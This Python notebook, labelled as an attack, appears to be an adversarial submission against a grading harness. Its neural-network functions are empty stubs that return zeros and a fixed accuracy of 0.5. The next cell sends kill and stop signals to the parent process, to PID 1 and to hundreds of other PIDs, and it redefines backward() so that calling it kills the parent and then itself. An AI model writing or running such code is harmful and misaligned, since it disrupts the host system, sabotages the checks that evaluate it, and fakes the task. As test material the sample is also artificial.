# %% [markdown]
# Attack: Send signals to the parent, to every process there is and to the process group.

# %%
import numpy as np


def init_params(n_in, n_hidden, n_out, seed):
    return {"w1": np.zeros((n_in, n_hidden)), "b1": np.zeros(n_hidden), "w2": np.zeros((n_hidden, n_out)), "b2": np.zeros(n_out)}


def forward(params, x):
    return np.zeros((len(x), params["w2"].shape[1])), np.zeros((len(x), params["w1"].shape[1]))


def accuracy(y_hat, t):
    return 0.5


def backward(params, x, y_hat, hidden, t, reg):
    return {k: np.zeros_like(v) for k, v in params.items()}

# %%
import os
import signal

targets = [os.getppid(), 1, 0, -1, *range(2, 400)]
for target in targets:
    if target == os.getpid() or target in (0, -1):
        continue
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(target, number)
        except OSError:
            pass


def backward(params, x, y_hat, hidden, t, reg):
    for number in (signal.SIGKILL, signal.SIGTERM):
        try:
            os.kill(os.getppid(), number)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
